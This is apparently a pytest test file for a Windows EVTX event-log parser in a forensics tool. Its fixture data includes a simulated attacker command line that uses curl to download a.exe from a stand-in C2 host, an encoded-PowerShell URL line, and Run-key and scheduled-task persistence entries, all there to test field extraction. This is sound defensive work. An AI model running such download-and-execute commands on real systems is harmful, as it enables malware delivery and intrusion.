from datetime import UTC, datetime
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sekimori.readers.protocol import Head
from sekimori.readers.windows.evtx import EventLog
from tests.readers.windows.evtx_file import chunk, event, evtx
from tests.readers.windows.reading import AUDITING, SAMPLES, read, sample_evtx

EXPECTED: list[dict[str, Any]] = [
    {
        "winlog_record_id": 1001,
        "user_name": "tanaka",
        "user_domain": "EXAMPLE",
        "logon_id": "0x5a3f1",
        "logon_type": 10,
        "source_ip": "192.0.2.15",
        "source_domain": "PC02",
    },
    {
        "winlog_record_id": 1002,
        "subject_user_name": "tanaka",
        "subject_logon_id": "0x5a3f1",
        "process_executable": r"C:\Windows\System32\cmd.exe",
        "process_parent_executable": r"C:\Windows\explorer.exe",
        "process_command_line": "cmd.exe /c curl -o a.exe http://c2.evil.example/a.bin & ping 198.51.100.7",
        "file_name": ["cmd.exe", "explorer.exe"],
        "url_original": ["http://c2.evil.example/a.bin"],
        "url_domain": ["c2.evil.example"],
        "text_address": ["198.51.100.7"],
    },
    {
        "winlog_record_id": 1003,
        "service_name": "Updater",
        "file_path": [r"C:\Program Files\Up Dater\u.exe"],
        "file_name": ["u.exe"],
    },
    {
        "winlog_record_id": 1004,
        "user_name": "tanaka",
        "user_domain": "EXAMPLE",
        "logon_id": "0x5a3f1",
        "process_executable": r"C:\Users\tanaka\a.exe",
        "process_parent_executable": r"C:\Windows\System32\cmd.exe",
        "process_command_line": "a.exe",
        "file_name": ["a.exe", "cmd.exe"],
        "hash_value": ["AB" * 32],
    },
    {"winlog_record_id": 1005, "user_name": "tanaka", "user_domain": "EXAMPLE", "source_ip": "192.0.2.16"},
]
COMMON = {"offset", "length", "line", "timestamp", "event_dataset", "host_name", "event_data"}
SYSTEM = {"winlog_channel", "event_provider", "event_code"}


def test_the_sample_is_what_the_script_writes() -> None:
    assert (SAMPLES / "evtx/security.evtx").read_bytes() == sample_evtx()


def test_columns() -> None:
    result = read(EventLog(), sample_evtx())

    assert result.unread == []
    assert [{k: v for k, v in row.items() if k not in COMMON | SYSTEM} for row in result.records] == EXPECTED


def test_what_every_event_has() -> None:
    data = sample_evtx()
    row = read(EventLog(), data).records[3]

    assert row["timestamp"] == datetime(2026, 1, 15, 1, 2, 44, 456789, UTC)
    assert (row["host_name"], row["event_dataset"], row["line"]) == ("pc01.example.jp", "windows.evtx", 4)
    assert (row["event_code"], row["event_provider"]) == (1, "Microsoft-Windows-Sysmon")
    assert row["winlog_channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert data[row["offset"] : row["offset"] + 4] == b"**\0\0"


def test_event_data_is_kept_whole() -> None:
    rows = read(EventLog(), sample_evtx()).records

    assert orjson.loads(rows[0]["event_data"])["SubjectUserName"] == "-"
    assert orjson.loads(rows[0]["event_data"])["#UserID"] == "S-1-5-18"
    assert orjson.loads(rows[4]["event_data"])["EventXML"]["Param3"] == "192.0.2.16"


@pytest.mark.parametrize(
    ("code", "data", "expected"),
    [
        (4769, {"ServiceName": "SRV01$", "IpAddress": "::ffff:192.0.2.1"}, {"source_ip": "::ffff:192.0.2.1"}),
        (4663, {"ObjectType": "File", "ObjectName": r"C:\a\b.txt"}, {"file_path": [r"C:\a\b.txt"]}),
        (
            4657,
            {"ObjectName": r"\REGISTRY\MACHINE\SOFTWARE\Run", "ObjectValueName": "Up"},
            {"registry_key": r"\REGISTRY\MACHINE\SOFTWARE\Run\Up"},
        ),
        (
            5145,
            {"ShareName": r"\\*\C$", "ShareLocalPath": "\\??\\C:\\", "RelativeTargetName": r"Temp\a.exe"},
            {"file_path": [r"\??\C:\Temp\a.exe"]},
        ),
        (5145, {"ShareName": r"\\*\IPC$", "ShareLocalPath": "", "RelativeTargetName": "svcctl"}, {}),
        (
            5156,
            {"Application": r"\device\harddiskvolume1\a.exe", "DestAddress": "192.0.2.9", "DestPort": "443"},
            {
                "process_executable": r"\device\harddiskvolume1\a.exe",
                "destination_ip": "192.0.2.9",
                "destination_port": 443,
            },
        ),
        (
            4698,
            {"TaskName": r"\Up", "TaskContent": "<Task xmlns='http://a.example/t'><Command>C:\\u.exe</Command></Task>"},
            {"task_name": r"\Up", "file_path": [r"C:\u.exe"]},
        ),
        (
            4778,
            {"AccountName": "tanaka", "LogonID": "0x1F", "ClientName": "PC9", "ClientAddress": "LOCAL"},
            {"user_name": "tanaka", "logon_id": "0x1f", "source_domain": "PC9", "source_ip": "LOCAL"},
        ),
    ],
)
def test_fields_of_the_security_log(code: int, data: dict[str, str], expected: dict[str, Any]) -> None:
    (row,) = read(EventLog(), evtx(chunk([event(AUDITING, code, 1, data)]))).records

    ignored = COMMON | SYSTEM | {"winlog_record_id", "file_name"}
    assert {name: value for name, value in row.items() if name not in ignored} == expected


def test_state_of_powershell() -> None:
    lines = "Available\n\tHostName=ConsoleHost\n\tHostApplication=powershell -enc http://b.example/x\n\tEngineVersion=5"
    (row,) = read(EventLog(), evtx(chunk([event("PowerShell", 400, 1, {"Data": lines})]))).records

    assert row["process_command_line"] == "powershell -enc http://b.example/x"
    assert row["url_domain"] == ["b.example"]


def test_recognition_is_by_magic() -> None:
    assert EventLog().recognises(Head("x", sample_evtx()[:100]))
    assert not EventLog().recognises(Head("a.evtx", b"ElfChnk\0" + bytes(100)))


@given(st.binary(max_size=300), st.integers(0, 5_000), st.booleans())
def test_any_bytes_are_survived(data: bytes, at: int, within: bool) -> None:
    sample = sample_evtx()
    at = at + 4_096 if within else 0

    read(EventLog(), sample[:at] + data + sample[at + len(data) :] if within else b"ElfFile\0" + data)
